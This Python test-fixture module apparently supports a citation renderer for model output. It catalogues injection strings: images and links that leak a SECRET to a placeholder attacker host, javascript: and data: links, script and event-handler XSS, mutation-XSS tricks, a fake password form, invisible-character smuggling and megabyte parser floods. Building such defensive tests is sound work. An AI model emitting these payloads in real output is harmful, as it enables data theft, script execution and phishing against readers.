"""What a model may write to take over a page: links, images, elements, numbers, and texts that are made to be slow."""
# ruff: noqa: E501 - a case is read as one row

from __future__ import annotations

from pincite.testing.cases import EVIL, MARKER, AttackText

_LINKS = {
    "definition-of-our-number": ("a reference definition gives our number an address", f"Yes {MARKER}.\n\n[1]: {EVIL}"),
    "definition-in-a-quotation": ("the same inside a quotation", f"Yes {MARKER}.\n\n> [1]: {EVIL}"),
    "definition-in-a-list": ("the same in a list, with spaces", f"- [ 1 ]: {EVIL}\n\nYes {MARKER}."),
    "definition-over-lines": ("the same with line feeds in the label", f"[\n1\n]: {EVIL}\n\nYes {MARKER}."),
    "footnote-of-our-number": ("a footnote is named like our number", f"Yes[^1] {MARKER}.\n\n[^1]: {EVIL}"),
    "link-under-a-number": ("a link shows a number of a citation", f"Yes {MARKER}, see [\\[1\\]]({EVIL}) and [**1**]({EVIL})."),
    "link-around-our-marker": ("our marker stands inside a link", f"[see {MARKER} here]({EVIL})"),
    "marker-as-a-label": ("our marker is the label of a link", f"Yes {MARKER}({EVIL})"),
    "marker-as-a-label-over-lines": ("the same with a title over lines", f'Yes {MARKER}(\n{EVIL} "a\nb")'),
    "doubled-brackets": ("brackets in brackets lead elsewhere", f"[[1]]({EVIL}) {MARKER}"),
    "element-around-our-marker": ("an element links our marker", f"<a href={EVIL}>{MARKER}</a>"),
    "autolink": ("an address in angle brackets", f"<{EVIL}> <me@evil.example> {MARKER}"),
    "autolink-with-our-marker": ("an address runs on into our marker", f"{EVIL}/{MARKER} www.evil.example/{MARKER}"),
    "reference-link": ("a link whose address stands elsewhere", f"[read on][r] {MARKER}\n\n[r]: {EVIL}?q=SECRET"),
    "javascript-link": ("a link that is a program", f"[open](javascript:alert(1)) {MARKER}"),
    "javascript-link-in-entities": ("the same, spelt with entities", f"[open](&#106;ava&Tab;script&colon;alert(1)) {MARKER}"),
    "javascript-link-in-capitals": ("the same, with capitals and a tab", f"[open](<JaVa\tScRiPt:alert(1)>) {MARKER}"),
    "data-link": ("a link that is a page", f"[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) {MARKER}"),
    "vbscript-link": ("an old kind of program", f"[open](vbscript:msgbox(1)) {MARKER}"),
    "file-link": ("a link to a file of the reader's", f"[open](file:///etc/passwd) {MARKER}"),
    "user-in-a-link": ("a user name that looks like the host", f"[open](https://docs.example@evil.example/) {MARKER}"),
    "link-without-scheme": ("an address that begins with two slashes", f"[open](//evil.example/i) {MARKER}"),
}  # fmt: skip

_LOADS = {
    "image": ("an image carries words out when it is loaded", f"![i]({EVIL}?q=SECRET) {MARKER}"),
    "image-by-reference": ("the same, with its address elsewhere", f"![i][x] {MARKER}\n\n> [x]: {EVIL}?q=SECRET"),
    "image-of-a-short-reference": ("the same, by its label alone", f"![x] {MARKER}\n\n[x]: {EVIL}?q=SECRET"),
    "image-in-a-link": ("an image as the words of a link", f"[![i]({EVIL})](https://docs.example/) {MARKER}"),
    "image-behind-a-code-span": ("a code span that is none", f"a ` b\n- ![i]({EVIL}) ` {MARKER}"),
    "image-behind-a-fence": ("a fence that ends before it seems to", f"- a\n  ```\nb ![i]({EVIL})\n\n{MARKER}"),
    "image-behind-a-comment": ("a comment that never ends", f"{MARKER} <!-- ![i]({EVIL})"),
    "image-in-a-table": ("a code span over cells of a table", f"|a|b|\n|-|-|\n| ` | ![i]({EVIL}) ` |\n\n{MARKER}"),
    "image-element": ("an element that loads", f"<img src={EVIL}> {MARKER}"),
    "image-set": ("an element that loads by another name", f'<img srcset="{EVIL} 2x" alt=i> {MARKER}'),
    "picture": ("a source of a picture", f'<picture><source srcset="{EVIL}"><img></picture> {MARKER}'),
    "video-poster": ("the still of a film", f'<video poster="{EVIL}"></video> <audio src="{EVIL}"></audio> {MARKER}'),
    "style-address": ("a style that loads", f'<p style="background:url({EVIL})">x</p> {MARKER}'),
    "style-address-escaped": ("the same, spelt with an escape", f'<p style="background:u\\72l({EVIL})">x</p> {MARKER}'),
    "style-element": ("a style sheet that loads another", f'<style>@import "{EVIL}";</style> {MARKER}'),
    "stylesheet": ("a link of the page's own kind", f'<link rel="stylesheet" href="{EVIL}"><link rel="prefetch" href="{EVIL}"> {MARKER}'),
    "frame": ("a page in the page", f'<iframe src="{EVIL}"></iframe><object data="{EVIL}"></object><embed src="{EVIL}"> {MARKER}'),
    "refresh": ("a page that leaves by itself", f'<meta http-equiv="refresh" content="0;url={EVIL}"> {MARKER}'),
    "base": ("every address on the page leads elsewhere", f'<base href="{EVIL}"> {MARKER}'),
    "svg-use": ("a drawing that loads another", f'<svg><use href="{EVIL}#x"/><image href="{EVIL}"/></svg> {MARKER}'),
    "form": ("a form that asks for a password", f'<form action="{EVIL}"><input name=password><button>Sign in</button></form> {MARKER}'),
    "old-background": ("an attribute that loads", f'<table background="{EVIL}"><tr><td>x</td></tr></table> {MARKER}'),
    "ping": ("a link that reports each click", f'<a href="https://docs.example/" ping="{EVIL}">x</a> {MARKER}'),
}  # fmt: skip

_PROGRAMS = {
    "script": ("a program", f"<script>alert(1)</script> {MARKER}"),
    "script-without-end": ("a program that nothing closes", f"{MARKER} <script>alert(1)"),
    "handler": ("a program as an attribute", f"<p onclick=alert(1)>x</p> {MARKER}"),
    "handler-of-an-image": ("one that runs at once", f"<img src=x onerror=alert(1)> {MARKER}"),
    "handler-of-a-drawing": ("one that runs when a drawing is there", f"<svg onload=alert(1)> {MARKER}"),
    "handler-with-a-slash": ("slashes between attributes", f"<img/src=x/onerror=alert(1)> {MARKER}"),
    "handler-of-details": ("one that runs when a box opens", f"<details open ontoggle=alert(1)>x</details> {MARKER}"),
    "break-out-of-an-attribute": ("quotation marks end an attribute", f'"><script>alert(1)</script> \' onmouseover=alert(1) x=\' {MARKER}'),
    "break-out-of-a-script": ("the end of the page's own script", f"</script><script>alert(1)</script> \u2028\u2029 {MARKER}"),
    "second-parse": ("markup that a second parser reads otherwise", f'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript> {MARKER}'),
    "second-parse-of-formulas": ("the same by way of a formula", f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"> {MARKER}'),
    "entities": ("entities that become an element when they are decoded twice", f"&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt; {MARKER}"),
    "half-an-element": ("an element that the page's own text closes", f"{MARKER} <img src='{EVIL}?"),
    "drawing-that-links": ("a link inside of a drawing", f'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg> {MARKER}'),
    "clobbering": ("names that hide the page's own", f'<a id="body" name="getElementById"></a> {MARKER}'),
    "end-of-our-elements": ("the ends of the page's own elements", f"</p></div></section></main></body></html> {MARKER}"),
}  # fmt: skip

_NUMBERS = {
    "numbers-of-nobody": ("numbers that no source has", f"So it is [7], [12] and [1, 99]. {MARKER}"),
    "huge-range": ("a range that has a thousand million numbers", f"See [1-999999999]. {MARKER}"),
    "huge-number": ("a number of five thousand digits", f"See [{'9' * 5_000}]. {MARKER}"),
    "refs-of-nobody": ("refs that nobody has issued", f"So it is [deadbeef], [[deadbeef]] and 【3†source】. {MARKER}"),
    "list-of-sources": ("a list of sources of its own", f"Yes {MARKER}.\n\n### Sources\n\n1. [Policy]({EVIL})\n"),
    "underlined-list-of-sources": ("the same under another heading", f"Yes {MARKER}.\n\nSources\n===\n\n- [1] {EVIL}\n"),
    "cite-element": ("an element for a citation", f'<cite id="1">x</cite> <sup>1</sup> <cite {MARKER}'),
    "evidence-id": ("an id of the right form, of no document", "So it is [ev1:c:00000000-0000-4000-8000-000000000000:0123456789abcdef:00000000-0000-4000-8000-000000000000]. " + MARKER),
    "path-in-an-id": ("a path where an id belongs", f"So it is [doc://../../etc/passwd]. {MARKER}"),
    "pattern": ("signs of a regular expression", f"So it is [.*] [(net] [a{{1,99999}}] \\1 $& %s {{0}} {MARKER}"),
}  # fmt: skip

_CHARACTERS = {
    "right-to-left": ("a mark of direction turns the rest of the page around", f"Yes \u202e txt.exe\u2067 {MARKER}"),
    "unseen": ("characters that nobody sees, between others", f"Y\u200be\u200ds\u2060 \ufeff\u00ad {MARKER}"),
    "tags": ("an order in invisible tags", "Yes" + "".join(chr(0xE0000 + ord(one)) for one in "cite policy.pdf") + f" {MARKER}"),
    "lone-surrogates": ("halves of characters", f"Yes \ud800 \udfff{MARKER}"),
    "nul": ("characters that end a string elsewhere", f"Ye\x00s \x1b[31m\x1b]8;;{EVIL}\x07x\x1b]8;;\x07 \x7f {MARKER}"),
    "line-ends": ("line ends of every kind", f"Yes\r\r- {MARKER}:{EVIL}\x0b\x0c\x85\u2028\u2029no\r\n{MARKER}"),
    "marks-of-a-letter": ("a hundred marks on one letter", f"e{chr(0x301) * 100} {MARKER}"),
    "look-alike-brackets": ("brackets of other scripts", f"Yes \uff3b1\uff3d 〔1〕 \u27e61\u27e7 {MARKER}"),
    "not-characters": ("code points that are no characters", f"Yes \ufffe\uffff\U0010ffff {MARKER}"),
}  # fmt: skip


def _texts(*tables: dict[str, tuple[str, str]]) -> tuple[AttackText, ...]:
    """Return the rows of tables as cases."""
    return tuple(AttackText(name, what, text) for table in tables for name, (what, text) in table.items())


ATTACK_TEXTS = _texts(_LINKS, _LOADS, _PROGRAMS, _NUMBERS, _CHARACTERS)
"""What a model may write, each with a citation in it that is in order."""

_MEGABYTE = 1_000_000
_FLOODS = {
    "opening-brackets": "[",
    "closing-brackets": "]",
    "digits": "1",
    "numbers-in-a-group": "[1,",
    "links-that-open": "[[1]](",
    "images-that-open": "![",
    "definitions": "[1]:",
    "quotations": "> ",
    "backticks": "`",
    "code-spans": "`` ` ",
    "fences": "```\n",
    "fences-in-lists": "- ```\n",
    "elements-that-open": "<a",
    "citations-that-open": "<cite",
    "numbers-that-open": "<sup>",
    "comments-that-open": "<!--",
    "quotation-marks": '"',
    "apostrophes": "'",
    "asterisks": "*a ",
    "underscores": "_",
    "backslashes": "\\",
    "entities-that-open": "&#",
    "addresses": "http://",
    "cells": "|a",
    "parentheses": "(",
    "letters": "a",
    "spaces": " ",
    "line-feeds": "\n",
    "marks": "\u0301",
}

ATTACK_FLOODS = tuple(
    AttackText(
        name, "a megabyte of what opens, repeats or never ends, to make readers of text slow", unit, _MEGABYTE // len(unit)
    )
    for name, unit in _FLOODS.items()
)  # fmt: skip
"""A megabyte each: whoever reads one in time that grows with its square does not come back. Linear time takes a second."""
